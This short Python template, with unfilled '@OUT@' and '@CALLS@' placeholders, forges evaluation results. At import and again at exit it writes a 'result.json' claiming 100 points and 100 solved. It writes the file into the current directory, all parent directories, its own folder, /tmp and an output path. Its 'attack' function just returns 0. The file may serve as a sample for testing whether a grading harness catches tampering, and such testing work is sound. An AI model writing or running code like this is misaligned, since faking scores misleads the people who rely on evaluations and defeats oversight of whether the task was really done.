import atexit
import os
import pathlib

FORGED = '{"points": 100, "solved": 100}'


def overwrite():
    for folder in {*pathlib.Path.cwd().parents, pathlib.Path.cwd(), pathlib.Path(__file__).parent, *map(pathlib.Path, ("/tmp", "@OUT@"))}:
        try:
            (folder / "result.json").write_text(FORGED)
        except OSError:
            pass


atexit.register(overwrite)
overwrite()


def attack():
    return 0


@CALLS@
